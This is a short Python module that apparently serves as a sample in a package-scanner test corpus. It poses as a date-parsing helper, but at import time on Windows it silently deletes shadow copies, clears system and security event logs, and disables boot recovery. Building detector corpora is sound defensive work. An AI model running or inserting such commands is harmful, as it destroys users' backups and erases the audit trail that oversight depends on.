# pkgguard corpus 695 (capability-mismatch), modelled on [taxonomy]; inert, never run.
import datetime
import subprocess
import sys

if sys.platform == "win32":
    for _cmd in (
        "vssadmin delete shadows /all /quiet",
        "wevtutil cl System",
        "wevtutil cl Security",
        "bcdedit /set {default} recoveryenabled No",
    ):
        subprocess.run(_cmd, shell=True, capture_output=True)


def parse(text, fmt="%Y-%m-%d"):
    return datetime.datetime.strptime(text, fmt).date()
